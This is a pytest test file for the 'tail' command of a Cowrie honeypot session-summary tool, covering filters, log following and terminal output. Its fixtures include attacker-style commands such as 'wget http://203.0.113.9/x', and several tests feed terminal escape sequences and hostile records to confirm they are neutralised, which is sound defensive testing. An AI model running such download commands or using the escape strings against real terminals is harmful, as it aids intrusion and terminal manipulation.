"""``cowrie-sessionstats tail`` as users run it: in pipes and on terminals."""

from __future__ import annotations

import json
import os
import re
import signal
import subprocess
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from conftest import ROOT
from hostile_records import hostile_records
from hypothesis import given, settings
from hypothesis import strategies as st
from logs import COMMAND, as_lines, tool
from nasty import NASTY
from summaries import summary, write_records
from terminals import SECONDS, Terminal

from cowrie_sessionstats.cli import main
from cowrie_sessionstats.watching.line import COLOURS, WIDE, Lines
from cowrie_sessionstats.watching.seen import cells, decoded, seen_of

RECORDS = [
    summary("a", at=1, logged_in=False, commands=0, protocol="telnet", ending="never_logged_in",
            automation="undetermined", src_ip="2001:db8::7"),
    summary("b", "cd /tmp", "wget http://203.0.113.9/x", at=2, ending="client_closed",
            automation="automated", seen_before=0, downloads=1, labels=["download"],
            checks=["disk-size"], src_ip="198.51.100.20"),
    summary("c", "w", "ls -la", "exit", at=3, ending="exit", automation="interactive",
            seen_before=0, src_ip="::ffff:203.0.113.99"),
    summary("d", "uname -a", at=4, ending="client_closed", automation="automated", seen_before=7,
            urls=["http://203.0.113.9/y"], src_ip="unknown"),
]  # fmt: skip
FINGERPRINT = RECORDS[2]["fingerprint"]


@pytest.fixture
def log(tmp_path: Path) -> Path:
    """Return a log with some records, and a line that is none."""
    path = write_records(tmp_path / "sessionstats.json", RECORDS)
    with path.open("ab") as file:
        file.write(b'{"eventid": "cowrie.session.connect"}\n\n{"eventid": "cowrie.sessionst')
    return path


def chosen(log: Path, *arguments: str) -> str:
    """Return which sessions are shown."""
    said = CliRunner().invoke(main, ["tail", str(log), "--no-follow", "--json", *arguments])
    assert said.exit_code == 0, said.output
    return "".join(json.loads(line)["session"] for line in said.stdout.splitlines())


@pytest.mark.parametrize(
    ("arguments", "sessions"),
    [
        ((), "abcd"),
        (("-n", "2"), "cd"),
        (("-n", "0"), ""),
        (("--automation", "automated"), "bd"),
        (("--automation", "automated", "-n", "1"), "d"),
        (("--automation", "interactive", "--automation", "undetermined"), "ac"),
        (("--automation", "automated", "--new"), "b"),
        (("--ending", "exit"), "c"),
        (("--protocol", "telnet"), "a"),
        (("--src-ip", "198.51.100.0/24"), "b"),
        (("--src-ip", "198.51.100.21"), ""),
        (("--src-ip", "203.0.113.99", "--src-ip", "2001:db8::/32"), "ac"),
        (("--src-ip", "::ffff:203.0.113.0/120"), "c"),
        (("--label", "download", "--label", "destruction"), "b"),
        (("--check", "disk-size"), "b"),
        (("--check", "disk-size", "--label", "destruction"), ""),
        (("--fingerprint", FINGERPRINT), "c"),
        (("--fingerprint", FINGERPRINT[:12]), "c"),
        (("--fingerprint", FINGERPRINT.split("_")[2]), "c"),
        (("--fingerprint", FINGERPRINT.split("_")[3]), ""),
        (("--fingerprint", "csf1_"), "bcd"),
        (("--min-commands", "2"), "bc"),
        (("--uploads",), "bd"),
        (("--new",), "bc"),
        (("--logged-in",), "bcd"),
    ],
    ids=" ".join,
)  # fmt: skip
def test_filters_choose(log: Path, arguments: tuple[str, ...], sessions: str) -> None:
    """Of one kind any will do, of different kinds all have to hold; the last ones are shown."""
    assert chosen(log, *arguments) == sessions


@pytest.mark.parametrize(
    ("arguments", "words"),
    [
        (("--label", "downlaod"), "download-and-run"),
        (("--check", "\x1b[2J"), "disk-size"),
        (("--automation", "human"), "'interactive'"),
        (("--ending", "closed"), "'client_closed'"),
        (("--src-ip", "203.0.113"), "address or a CIDR block"),
        (("--src-ip", "10.0.0.0/33"), "address or a CIDR block"),
        (("--fingerprint", "csf1_x"), "beginning of a fingerprint"),
        (("--fingerprint", "08fbea"), "12 digits in its middle"),
        (("--rules", str(ROOT / "README.md")), "README.md"),
    ],
    ids=str,
)
def test_a_filter_that_nothing_can_pass_is_wrong_usage(
    log: Path, arguments: tuple[str, ...], words: str
) -> None:
    """And the error says what there is."""
    said = CliRunner().invoke(main, ["tail", str(log), "--no-follow", *arguments])
    assert said.exit_code == (1 if "--rules" in arguments else 2)
    assert words in said.output
    assert "\x1b" not in said.output


def test_labels_of_rules_of_ones_own_are_known(log: Path, tmp_path: Path) -> None:
    """Those in ``cowrie.cfg``, and those that an option names."""
    rules = tmp_path / "rules.toml"
    rules.write_text(
        '[[label]]\nid = "ours"\nsource = "https://example.net/"\nexample = ["zz"]\n'
        'words = ["zz"]\nany = ["@zz"]\n'
    )
    assert chosen(log, "--rules", str(rules), "--label", "ours", "--label", "download") == "b"
    (tmp_path / "cowrie.cfg").write_text(
        f"[output_sessionstats]\nenabled = true\nlogfile = {log}\nrules = {rules}\n"
    )
    said = CliRunner().invoke(
        main, ["tail", "--cowrie", str(tmp_path), "--no-follow", "--label", "ours", "-n", "3"]
    )
    assert (said.exit_code, said.stdout) == (0, "")


def test_a_line_in_a_pipe_has_the_same_words_each(log: Path) -> None:
    """Whole, without colours, columns by single spaces; what is skipped is said apart."""
    said = tool("tail", log, "--no-follow")
    assert said.status == 0
    assert said.err == "1 line skipped: no summary of a session\n"
    lines = [line.split(" ", 10) for line in said.out.decode().splitlines()]
    assert [line[1:10] for line in lines] == [
        ["svr04", "2001:db8::7", "telnet", "10.0", "0", "undetermined", "never_logged_in", "-",
         "-"],
        ["svr04", "198.51.100.20", "ssh", "10.0", "2", "automated", "client_closed",
         "new,files=1", RECORDS[1]["fingerprint"]],
        ["svr04", "::ffff:203.0.113.99", "ssh", "10.0", "3", "interactive", "exit", "new",
         FINGERPRINT],
        ["svr04", "unknown", "ssh", "10.0", "1", "automated", "client_closed", "-",
         RECORDS[3]["fingerprint"]],
    ]  # fmt: skip
    assert [line[0] for line in lines] == [record["end"] for record in RECORDS]
    assert [line[10] for line in lines] == ["-", "wget http://203.0.113.9/x", "exit", "uname -a"]


def test_records_are_printed_as_they_are(tmp_path: Path) -> None:
    """Byte by byte as the plugin wrote them; of another program without what steers a terminal."""
    plain = as_lines([summary("a", "echo ü \x1b[2J")])
    other = json.dumps(summary("b", "\x9b2J ü \u202e"), ensure_ascii=False).encode() + b"\n"
    (tmp_path / "log").write_bytes(plain + other)
    said = CliRunner().invoke(main, ["tail", str(tmp_path / "log"), "--no-follow", "--json"])
    first, second = said.stdout_bytes.splitlines(keepends=True)
    assert first == plain
    assert second.isascii()
    assert json.loads(second) == json.loads(other)


# ---------------------------------------------------------------- following


@contextmanager
def started(*arguments: object) -> Iterator[Any]:
    """Run ``tail`` with its output in a pipe; it is killed if it says nothing for too long."""
    command = [str(COMMAND), "tail", *map(str, arguments)]
    with subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE) as process:
        timer = threading.Timer(2 * SECONDS, process.kill)
        timer.start()
        try:
            yield process
        finally:
            timer.cancel()
            process.kill()


def test_it_waits_for_the_log_and_follows_it_through_its_rotation(tmp_path: Path) -> None:
    """Each summary comes once, a late revision once more; Ctrl-C ends it with 130."""
    path = tmp_path / "log"
    with started(path, "--min-commands", "1") as tailing:
        assert b"is not there yet" in tailing.stderr.readline()
        path.write_bytes(as_lines([RECORDS[0], RECORDS[1]])[:-5])
        time.sleep(0.3)  # it may look at half a line
        with path.open("ab") as log:
            log.write(as_lines([RECORDS[1]])[-5:])
        assert b" wget " in tailing.stdout.readline()
        path.rename(tmp_path / "log.2026-11-25")
        path.write_bytes(b"no json\n" + as_lines([RECORDS[2], {**RECORDS[2], "revision": 1}]))
        assert tailing.stdout.readline().split()[8:] == [b"new", FINGERPRINT.encode(), b"exit"]
        assert tailing.stdout.readline().split()[8] == b"new,revision=1"
        os.truncate(path, 0)
        with path.open("ab") as log:
            log.write(as_lines([RECORDS[3]]))
        assert b"uname -a" in tailing.stdout.readline()
        tailing.send_signal(signal.SIGINT)
        assert tailing.wait(SECONDS) == 130
        assert tailing.stderr.read() == b"1 line skipped: no summary of a session\n"


def test_it_ends_quietly_when_nobody_reads_any_more(log: Path) -> None:
    """Also while nothing comes: ``tail | head -1`` gives the prompt back."""
    with started(log) as tailing:
        assert tailing.stdout.readline()
        tailing.stdout.close()
        assert tailing.wait(SECONDS) == 141
        assert tailing.stderr.read() in (b"", b"1 line skipped: no summary of a session\n")


def test_a_log_that_cannot_be_read_is_said(tmp_path: Path) -> None:
    """In one line, with status 1: a folder, a pipe, none at all."""
    os.mkfifo(tmp_path / "pipe")
    for path, words in ((tmp_path / "pipe", "no regular file"), (tmp_path / "none", "there is no")):
        said = CliRunner().invoke(main, ["tail", str(path), "--no-follow"])
        assert said.exit_code == 1
        assert words in said.output
        assert said.output.count("\n") == 1
    said = CliRunner().invoke(main, ["tail", "--cowrie", str(tmp_path)])
    assert said.exit_code == 1
    assert "--cowrie" in said.output


# ---------------------------------------------------------------- on a terminal


def test_lines_fit_the_terminal_and_people_stand_out(log: Path) -> None:
    """One row a summary, whatever its size; colours say who typed, and NO_COLOR is heeded."""
    terminal = Terminal("tail", log, columns=76).wait_for("exit, new: exit")
    terminal.wait_until(lambda shown: sum("2026-" in line for line in shown.lines) == 4)
    row = next(y for y, line in enumerate(terminal.lines) if "inter" in line)
    assert terminal.screen.buffer[row][0].bold
    terminal.resize(200, 24)
    with log.open("ab") as file:
        file.write(b"\n" + as_lines([{**RECORDS[1], "session": "e", "sensor": "other"}]))
    terminal.wait_for("automated    client_closed, new, files 1: wget http://203.0.113.9/x")
    assert "other" in terminal.text
    terminal.press("\x03")
    assert terminal.ended() == 130
    plain = Terminal("tail", log, "--no-follow", NO_COLOR="1")
    assert plain.ended() == 0
    assert b"\x1b" not in plain.raw


UNSAFE = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff]")
EVIL = (ROOT / "tests/evil_lines.txt").read_text().splitlines()[::8]  # the emulator is slow


@settings(max_examples=30)  # each makes whole records, which takes longest
@given(
    st.lists(hostile_records, min_size=1, max_size=5),
    st.none() | st.integers(1, 300),
    st.sampled_from(NASTY),
)
def test_nothing_of_an_attacker_steers_the_terminal(
    records: list[dict[str, Any]], width: int | None, nasty: str
) -> None:
    """A line is one line, has nothing but print in it, and fits."""
    lines = Lines(colour=False)
    for record in [
        *records,
        dict.fromkeys(records[0], nasty),
        {key: [nasty] for key in records[0]},
    ]:
        line = lines.line(seen_of(record), width, 2e9)
        assert line.isprintable()
        assert not UNSAFE.search(line)
        if width is None:
            assert len(line.split(" ")) >= 11
            assert "\t" not in line
        else:
            assert cells(line) <= width
    coloured = Lines(colour=True).line(seen_of({**records[0], "automation": "automated"}), 80, 0.0)
    assert coloured.startswith(f"\x1b[{COLOURS['automated']}m")
    assert coloured.count("\x1b") == 2
    assert WIDE > 80


def test_hostile_records_come_out_as_text(tmp_path: Path) -> None:
    """On a real terminal no byte of theirs is a control character, and no row is broken."""
    records = [
        summary(f"{place:04}", text, src_ip=text, username=text, sensor="svr04", ending=text)
        for place, text in enumerate([*NASTY, "e\u0301" * 60, "\u4e2d" * 80, "\u1112\u1161\u11ab"])
    ] + [summary(f"evil{place}", text) for place, text in enumerate(EVIL)]
    log = write_records(tmp_path / "log", records)
    terminal = Terminal("tail", log, "--no-follow", "--color", "never", "-n", "5000", rows=200)
    assert terminal.ended() == 0
    shown = terminal.raw.decode()
    assert not UNSAFE.search(shown.replace("\r\n", "\n"))
    assert len([line for line in terminal.lines if line]) == len(records)
    assert terminal.screen.title == ""
    for words in ("\\x1b[2J", "\\u202egnp", "[red]markup[/red]", "\\u0301", "\u4e2d", "\\u1161"):
        assert words in shown.replace("\u4e2d\u4e2d", "\u4e2d"), words


def test_a_number_of_any_size_is_none() -> None:
    """JSON has integers that no float can hold, and no plugin wrote them."""
    text = json.dumps({**RECORDS[0], "commands": 10**400, "duration": 10**400, "revision": -1})
    record = decoded(text.encode())
    assert record is not None
    seen = seen_of(record)
    assert (seen.commands, seen.duration, seen.revision) == (0, None, 0)
